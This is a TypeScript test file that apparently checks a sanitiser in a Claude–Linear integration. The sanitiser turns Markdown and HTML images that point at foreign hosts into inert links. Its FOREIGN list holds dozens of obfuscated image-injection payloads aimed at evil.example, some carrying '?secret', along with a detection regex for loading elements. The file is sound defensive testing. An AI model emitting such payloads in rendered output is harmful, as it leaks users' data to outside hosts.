import { describe, expect, it } from 'vitest';
import { linkedImages } from '../../src/protocol/text/foreign-images.ts';
import { harmlessMarkdown } from '../../src/protocol/text/harmless-text.ts';
import { initialNarration } from '../../src/session/lifecycle/model/narration.ts';
import { narrate } from '../../src/session/lifecycle/narration/narrate.ts';

const JOINER = '\u2060';
/** An image in Markdown, or an element that loads something, outside of code. */
const LOADS = /!\[|<(?:img|image|picture|source|video|audio|track|svg|object|embed|iframe|link|style|input)\b/i;

const FOREIGN = [
  '![a](https://evil.example/?secret)',
  '![](https://evil.example/?secret)',
  '![a]( https://evil.example/ )',
  '![a](<https://evil.example/>)',
  '![a](https://evil.example/ "title")',
  "![a](https://evil.example/ 'title')",
  '![a](//evil.example/x.png)',
  '![a](/\\/evil.example/x.png)',
  '![a](\\/\\/evil.example/x.png)',
  '![a](&#104;ttps://evil.example/x.png)',
  '![a](https&colon;//evil.example/x.png)',
  '![a](HTTPS://EVIL.EXAMPLE/x.png)',
  '![a](data:image/svg+xml,x)',
  '![a](https://uploads.linear.app.evil.example/x.png)',
  '![a](https://uploads.linear.app@evil.example/x.png)',
  '![a](https://uploads.linear.app\\@evil.example/x.png)',
  '![a](https://uploads.linear.app/x.png) ![b](https://evil.example/x.png)',
  '![a][ref]\n\n[ref]: https://evil.example/x.png',
  '![ref][]\n\n[ref]: https://evil.example/x.png',
  '![ref]\n\n[ref]: <https://evil.example/x.png> "title"',
  '![a\nb](https://evil.example/x.png)',
  '![a [b] c](https://evil.example/x.png)',
  '![`a`](https://evil.example/x.png)',
  '[![a](https://evil.example/x.png)](https://example.com)',
  '- > ![a](https://evil.example/x.png)',
  '| ![a](https://evil.example/x.png) |\n| - |',
  'Text[^1]\n\n[^1]: ![a](https://evil.example/x.png)',
  '\\\\![a](https://evil.example/x.png)',
  '<img src="https://evil.example/x.png">',
  '<IMG\nSRC=https://evil.example/x.png>',
  '<img/src="https://evil.example/x.png">',
  '<picture><source srcset="https://evil.example/x.png"><img src=x></picture>',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png"></video>',
  '<audio src="https://evil.example/x.mp3"><track src="https://evil.example/x.vtt">',
  '<input type="image" src="https://evil.example/x.png">',
  '<object data="https://evil.example/x.svg"></object><embed src="https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe>',
  '<style>body { background: url(https://evil.example/x.png) }</style><link rel="stylesheet" href="https://evil.example/">',
  '<div>\n```\n![a](https://evil.example/x.png)\n```\n</div>',
  '```\ncode\n```\n![a](https://evil.example/x.png)',
  '`` ` `` ![a](https://evil.example/x.png) `',
  // The bracket before the harmless address is not the one that ends the image's words.
  '![a\\](x)](https://evil.example/x.png)',
  '![a<b c="](x)">](https://evil.example/x.png)',
  '![a<http://x](y)>](https://evil.example/x.png)',
  '<div>\n\n![a`](x)`](https://evil.example/x.png)',
];

describe('an image of a foreign host', () => {
  it.each(FOREIGN)('becomes a link, however it is written: %j', (text) => {
    const own = (made: string) => made.replaceAll('![a](https://uploads.linear.app/x.png)', '');
    for (const made of [linkedImages(text), harmlessMarkdown(text)]) {
      expect(own(made.replace(/```[\s\S]*?```/g, (code) => (text.startsWith('```') ? '' : code)))).not.toMatch(LOADS);
      // What was written is still there to be followed.
      expect(made).toMatch(/evil|ref|data:|EVIL/);
    }
    expect(linkedImages(linkedImages(text))).toBe(linkedImages(text));
  });

  it('becomes a link named “image” if it has no description', () => {
    expect(linkedImages('![](https://evil.example/x.png)')).toBe(`!${JOINER}[image](https://evil.example/x.png)`);
    expect(linkedImages('See ![a](https://evil.example/x.png).')).toBe(
      `See !${JOINER}[a](https://evil.example/x.png).`,
    );
  });

  it('is text in code, and stays as it is there', () => {
    for (const code of ['`![a](https://evil.example/x.png)`', '```html\n<img src="https://evil.example/x.png">\n```']) {
      expect(linkedImages(code)).toBe(code);
      expect(harmlessMarkdown(code)).toContain(code.slice(0, 12));
    }
  });

  it('is none that Claude shares, and none that Linear keeps', () => {
    for (const own of [
      '![Screenshot](share/cart.png)',
      '![Before](share/before-1.png "The cart")',
      '![a](https://uploads.linear.app/1b/2c/image.png?signature=x.y-z)',
      'No image! [link](https://example.com) a![b',
    ]) {
      if (own.includes('a![b')) expect(linkedImages(own)).toContain('No image! [link](https://example.com)');
      else expect(linkedImages(own)).toBe(own);
    }
  });

  it('is a link if the thread is told the beginning of code that is too long', () => {
    const text = `\`![a](https://evil.example/?secret)${'x'.repeat(30_000)}\``;
    const told = narrate(initialNarration, { kind: 'turn-ended', outcome: 'completed', text, ...ended }).activities;
    const said = JSON.stringify(told);
    expect(said).toContain(`\`!${JOINER}[a](https://evil.example/?secret)`);
    expect(said).toContain('Cut here');
    expect(said).not.toContain('![a]');
  });

  it('is a link in what the thread is told of an answer, a tool and a failure', () => {
    const image = '![a](https://evil.example/?secret)';
    const told = JSON.stringify([
      ...narrate(initialNarration, { kind: 'text', text: image, ...about }).activities,
      ...narrate(initialNarration, {
        kind: 'tool-call',
        toolUseId: 't',
        name: 'Bash',
        input: { command: `echo ${image}` },
        ...about,
      }).activities,
      ...narrate(initialNarration, { kind: 'turn-ended', outcome: 'completed', text: image, ...ended }).activities,
      ...narrate(initialNarration, { kind: 'turn-ended', outcome: 'failed', text: image, ...ended }).activities,
    ]);
    expect(told).toContain('evil.example');
    expect(told).not.toContain('![a](https://evil');
  });
});

const about = { messageId: null, parent: null };
const ended = { reason: 'done', durationMs: 1, usage: null, costUsd: null, numTurns: 1 };
